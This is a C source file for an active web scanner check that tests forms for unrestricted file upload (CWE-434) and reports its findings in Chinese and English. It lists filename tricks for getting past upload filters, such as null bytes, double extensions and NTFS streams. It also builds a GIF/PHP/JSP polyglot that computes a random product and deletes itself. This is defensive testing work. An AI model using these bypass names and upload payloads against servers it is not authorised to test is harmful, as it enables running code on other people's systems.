/* Active, intrusive: uploads that the server runs, or shows as a page of its own (CWE-434). The
 * file multiplies two random numbers and deletes itself when it is run; the product in the
 * answer is the proof, twice. A file that is only shown proves scripting when it is sent as
 * HTML or SVG, not as a download. Names go from plain to tricky; each is tried once. */
#include "base/limits.h"
#include "net/url.h"
#include "scan/checks/active_private.h"
#include "scan/checks/xss.h"

#define UPLOAD_PLACES 6

enum content { CONTENT_CODE, CONTENT_HTML, CONTENT_SVG };
static const struct {
	const char *name; /* "@" is a random word */
	enum content content;
	bool deep;
} tries[] = {
	{ "@.php", CONTENT_CODE, false },	{ "@.phtml", CONTENT_CODE, false },  { "@.PhP", CONTENT_CODE, false },
	{ "@.php5", CONTENT_CODE, false },	{ "@.jpg.php", CONTENT_CODE, false }, { "@.php.", CONTENT_CODE, false },
	{ "@.php ", CONTENT_CODE, false },	{ "@.php%00.jpg", CONTENT_CODE, false }, { "@.pphphp", CONTENT_CODE, false },
	{ "@.php.jpg", CONTENT_CODE, false },	{ "@.jsp", CONTENT_CODE, false },    { "@.aspx", CONTENT_CODE, false },
	{ "@.phar", CONTENT_CODE, true },	{ "@.php7", CONTENT_CODE, true },    { "@.asp", CONTENT_CODE, true },
	{ "@.jspx", CONTENT_CODE, true },	{ "@.asp;.jpg", CONTENT_CODE, true }, { "@.php::$DATA", CONTENT_CODE, true },
	{ "@.php. .", CONTENT_CODE, true },	{ "@.html", CONTENT_HTML, false },   { "@.svg", CONTENT_SVG, false },
	{ "@.xhtml", CONTENT_SVG, false },	{ "@.shtml", CONTENT_HTML, true },
};

struct attempt {
	struct str name, word, product, data, type;
};

static struct str fill_name(struct probe *p, const char *form, struct str word)
{
	const char *at = strchr(form, '@');
	return probe_printf(p, "%.*s%.*s%s", (int)(at - form), form, STR_ARG(word), at + 1);
}

static void make(struct probe *p, size_t which, struct attempt *a)
{
	uint32_t x = probe_number(p, 30000, 99999), y = probe_number(p, 30000, 99999);
	a->word = probe_word(p, 8);
	a->name = fill_name(p, tries[which].name, a->word);
	a->product = probe_printf(p, "%llu", (unsigned long long)x * y);
	a->type = tries[which].content == CONTENT_SVG ? STR("image/svg+xml") : STR("image/gif");
	if (tries[which].content == CONTENT_SVG)
		a->data = probe_printf(p, "<svg xmlns=\"http://www.w3.org/2000/svg\"><%.*s xmlns=\"http://www.w3.org/1999/xhtml\" onclick=\"1\"/></svg>",
				       STR_ARG(a->word));
	else
		a->data = probe_printf(p, "GIF89a<?php echo %u*%u; @unlink(__FILE__); ?><%%= %uL*%uL %%>\n<%.*s onclick=1></%.*s>", x, y, x, y,
				       STR_ARG(a->word), STR_ARG(a->word));
}

/* The form's own body with another file in it. */
static struct str with_file(struct probe *p, const struct scan_exchange *x, const struct attempt *a)
{
	struct str type = scan_header_get(&x->request_headers, "content-type"), body = x->request_body;
	ssize_t at = str_ifind(type, STR("boundary="));
	if (at < 0)
		return STR_NULL;
	struct str boundary = str_trim(str_from(type, (size_t)at + 9));
	ssize_t file = str_find(body, STR("filename=\""));
	if (file < 0)
		return STR_NULL;
	ssize_t name_end = str_chr(str_from(body, (size_t)file + 10), '"');
	ssize_t data = str_find(str_from(body, (size_t)file), STR("\r\n\r\n"));
	ssize_t end = data < 0 ? -1 : str_find(str_from(body, (size_t)(file + data)), probe_printf(p, "\r\n--%.*s", STR_ARG(boundary)));
	if (name_end < 0 || end < 0)
		return STR_NULL;
	return probe_printf(p, "%.*sfilename=\"%.*s\"\r\nContent-Type: %.*s\r\n\r\n%.*s%.*s", (int)file, body.ptr, STR_ARG(a->name),
			    STR_ARG(a->type), STR_ARG(a->data), STR_ARG(str_from(body, (size_t)(file + data + end))));
}

/* Addresses in the answer that were not on the page of the form: where the file may lie. */
static size_t places(struct probe *p, const struct scan_exchange *x, const struct scan_exchange *form, const struct attempt *a,
		     struct str *list)
{
	static const char *const attrs[] = { "src", "href", "data", "value" };
	size_t n = 0;
	struct url base, u;
	if (url_parse(probe_arena(p), x->page ? x->page->base : x->url, NULL, 0, &base, NULL) < 0)
		return 0;
	for (size_t i = 0; x->page && i < x->page->tags_len && n < UPLOAD_PLACES; i++)
		for (size_t k = 0; k < ARRAY_SIZE(attrs) && n < UPLOAD_PLACES; k++) {
			struct str v = scan_tag_attr(&x->page->tags[i], attrs[k]);
			bool known = v.len < 5 || str_chr(v, '.') < 0 || (form && str_has(form->text, v) && !str_has(v, a->word));
			if (known || url_parse(probe_arena(p), v, &base, URL_RAW_PATH, &u, NULL) < 0 || !url_same_origin(&u, &base))
				continue;
			struct str full = url_text(probe_arena(p), &u, URL_NO_FRAGMENT);
			bool twice = false;
			for (size_t j = 0; j < n; j++)
				twice = twice || str_eq(list[j], full);
			if (!twice)
				list[n++] = full;
		}
	/* JSON and text: a path that ends in our name */
	ssize_t at = n ? -1 : str_find(active_content(x), a->word);
	if (at >= 0) {
		struct str t = active_content(x);
		size_t from = (size_t)at, to = (size_t)at;
		while (from > 0 && !strchr("\"' <>,()\n\t", t.ptr[from - 1]))
			from--;
		while (to < t.len && !strchr("\"'<>,()\n\t&", t.ptr[to]))
			to++;
		struct buf b;
		buf_init(&b, 4 * KIB);
		for (size_t i = from; i < to; i++)
			if (t.ptr[i] != '\\')
				buf_char(&b, t.ptr[i]);
		if (url_parse(probe_arena(p), buf_view(&b), &base, URL_RAW_PATH, &u, NULL) == 0 && url_same_origin(&u, &base))
			list[n++] = url_text(probe_arena(p), &u, URL_NO_FRAGMENT);
		buf_free(&b);
	}
	static const char *const usual[] = { "/uploads/", "/upload/", "/files/", "/images/" };
	for (size_t i = 0; n == 0 && i < ARRAY_SIZE(usual); i++)
		list[n++] = probe_printf(p, "%.*s%s%.*s", STR_ARG(x->origin), usual[i], STR_ARG(a->name));
	return n;
}

static bool runs(const struct scan_exchange *x, const struct attempt *a)
{
	return x->status == 200 && str_has(x->body, a->product) && !str_has(x->body, STR("<?php"));
}

static bool shows(struct probe *p, const struct scan_exchange *x, const struct attempt *a)
{
	bool document = x->media == MEDIA_HTML || (x->media == MEDIA_XML && (str_has(x->mime, STR("svg")) || str_has(x->mime, STR("xhtml"))));
	return x->status == 200 && document && x->mime_declared && xss_is_page(x) &&
	       xss_proof(probe_arena(p), x, XSS_TAG, a->word).ptr;
}

/* Uploads and looks: 2 it ran, 1 it is shown as a page, 0 neither. */
static int try_once(struct probe *p, const struct scan_exchange *x, const struct scan_exchange *form, size_t which,
		    const struct scan_exchange **ret, struct str *ret_proof)
{
	struct attempt a;
	struct str list[UPLOAD_PLACES + 1];
	const struct scan_exchange *sent, *r;
	make(p, which, &a);
	struct str body = with_file(p, x, &a);
	if (!body.ptr || probe_send(p, &(struct scan_mutation){ .body_set = true, .body = body, .follow = 2, .fresh = true,
								.content_type = scan_header_get(&x->request_headers, "content-type") }, &sent) < 0 ||
	    sent->status >= 400)
		return 0;
	size_t n = places(p, sent, form, &a, list);
	for (size_t i = 0; i < n; i++) {
		if (probe_send(p, &(struct scan_mutation){ .url = list[i], .fresh = true }, &r) < 0)
			continue;
		int found = runs(r, &a) ? 2 : shows(p, r, &a) ? 1 : 0;
		*ret_proof = found == 2 ? a.product : a.word;
		*ret = r;
		if (found)
			return found;
	}
	return 0;
}

static void report(struct probe *p, const struct scan_exchange *about, const struct scan_exchange *x, struct str proof, const char *name, int how)
{
	bool run = how == 2;
	probe_report(p, &(struct scan_report){
				.exchange = x,
				.about = about,
				.proof = proof,
				.severity_set = true,
				.severity = run ? SEVERITY_CRITICAL : SEVERITY_MEDIUM,
				.confidence_set = true,
				.confidence = CONFIDENCE_CERTAIN,
				.detail_zh = probe_printf(p, run ? "形如 %s 的文件被上传并由服务器执行（算出了随机乘积，文件执行后已自行删除）。" :
								   "形如 %s 的文件被上传并以网页形式展示，可执行脚本。请删除扫描留下的文件 %.*s。",
							  name, run ? 0 : (int)x->url.len, x->url.ptr),
				.detail_en = probe_printf(p, run ? "A file named like %s was uploaded and run by the server (it computed a random product and "
								   "then deleted itself)." :
								   "A file named like %s was uploaded and is shown as a page that can run script. Please "
								   "remove the file this scan left: %.*s.", name, run ? 0 : (int)x->url.len, x->url.ptr) });
}

static void probe_upload(struct probe *p, const struct scan_exchange *x)
{
	const struct scan_exchange *form = NULL, *r;
	struct str proof;
	int shown = 0;
	if (!str_istarts(scan_header_get(&x->request_headers, "content-type"), STR("multipart/")) || !str_has(x->request_body, STR("filename=\"")))
		return;
	if (probe_from(p).len && probe_get(p, probe_from(p), &form) < 0)
		form = NULL;
	for (size_t i = 0; i < ARRAY_SIZE(tries); i++) {
		if (tries[i].deep && probe_mode(p) != SCAN_DEEP)
			continue;
		int found = try_once(p, x, form, i, &r, &proof);
		if (found == 0 || (found == 1 && shown))
			continue;
		if (try_once(p, x, form, i, &r, &proof) != found)
			continue;
		if (found == 2) {
			report(p, x, r, proof, tries[i].name, 2);
			return;
		}
		shown = 1;
		if (tries[i].content != CONTENT_CODE) { /* everything that might run was tried before */
			report(p, x, r, proof, tries[i].name, 1);
			return;
		}
		shown = 0;
	}
}

const struct scan_check check_file_upload = {
	.id = "file-upload",
	.title_zh = "任意文件上传",
	.title_en = "Unrestricted file upload",
	.severity = SEVERITY_HIGH,
	.cwe = 434,
	.owasp = "A04:2021",
	.modes = SCAN_STANDARD_UP,
	.flags = SCAN_INTRUSIVE,
	.place = PLACE_PAGE,
	.on_request = probe_upload,
};
